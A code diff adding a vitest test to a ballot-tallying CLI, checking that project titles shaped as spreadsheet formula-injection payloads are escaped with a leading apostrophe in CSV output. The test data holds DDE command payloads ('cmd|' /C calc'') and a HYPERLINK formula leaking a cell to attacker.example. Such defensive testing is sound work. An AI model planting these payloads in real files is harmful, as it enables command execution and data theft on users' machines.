@@ -1,4 +1,5 @@
 import { execFile } from 'node:child_process';
+import { readFileSync } from 'node:fs';
 import { mkdtemp, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -6,6 +7,7 @@ import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
 import stringWidth from 'string-width';
 import { describe, expect, it } from 'vitest';
+import { spawnTimeout } from '../../../../vitest.shared.mjs';
 import { main } from '../cli.js';
 import type { CliIO } from '../io.js';
 
@@ -14,6 +16,27 @@ const fixture = (name: string) =>
 const meeting = fixture('pilot-meeting.json');
 const ballots = fixture('pilot-ballots.json');
 const bin = fileURLToPath(new URL('../../dist/bin.js', import.meta.url));
+
+/** RFC 4180 fields of CSV text (quoted fields, doubled quotes, LF or CRLF line ends). */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  const field = /"((?:[^"]|"")*)"|([^,\r\n"]*)/y;
+  let row: string[] = [];
+  let i = 0;
+  while (i < text.length) {
+    field.lastIndex = i;
+    const match = field.exec(text)!;
+    row.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : match[2]!);
+    i = field.lastIndex;
+    if (text[i] === ',') i++;
+    else {
+      i += text.startsWith('\r\n', i) ? 2 : 1;
+      rows.push(row);
+      row = [];
+    }
+  }
+  return rows;
+}
 
 async function run(...argv: string[]) {
   let stdout = '';
@@ -57,6 +80,35 @@ describe('qingyuan tally', () => {
     );
   });
 
+  it('defuses project titles that a spreadsheet would run as formulas', async () => {
+    const payloads = [
+      "=cmd|' /C calc'!A0",
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+      ' =1+1',
+      '\t=1+1',
+      '＝1+1',
+    ];
+    const pilot = JSON.parse(readFileSync(meeting, 'utf8')) as {
+      projects: { id: string; title: unknown }[];
+    };
+    const dir = await mkdtemp(join(tmpdir(), 'qy-tally-csv-'));
+    const rows: string[][] = [];
+    for (let i = 0; i < payloads.length; i += pilot.projects.length) {
+      const titles = payloads.slice(i, i + pilot.projects.length);
+      const file = join(dir, `formula-titles-${i}.json`);
+      const projects = pilot.projects.map((p, j) => ({ ...p, title: titles[j] ?? 'plain' }));
+      await writeFile(file, JSON.stringify({ ...pilot, projects }));
+      const { code, stdout } = await run('tally', file, ballots, '--format', 'csv');
+      expect(code).toBe(0);
+      rows.push(...readCsv(stdout).slice(1));
+    }
+    const written = rows.map((row) => row[2]!).filter((title) => title !== 'plain');
+    expect(written.sort()).toEqual(payloads.map((p) => `'${p}`).sort());
+  });
+
   it('names the file, the JSON path and what was expected for a bad meeting', async () => {
     const { code, stderr } = await run('tally', fixture('bad-weight-meeting.json'), ballots);
     expect(code).toBe(2);
@@ -93,7 +145,7 @@ describe('qingyuan tally', () => {
     expect(help.stdout).toContain('Usage: qingyuan tally');
   });
 
-  it('runs as the built bin, end to end', { timeout: 30_000 }, async () => {
+  it('runs as the built bin, end to end', { timeout: spawnTimeout }, async () => {
     const { stdout } = await promisify(execFile)('node', [
       bin,
       'tally',
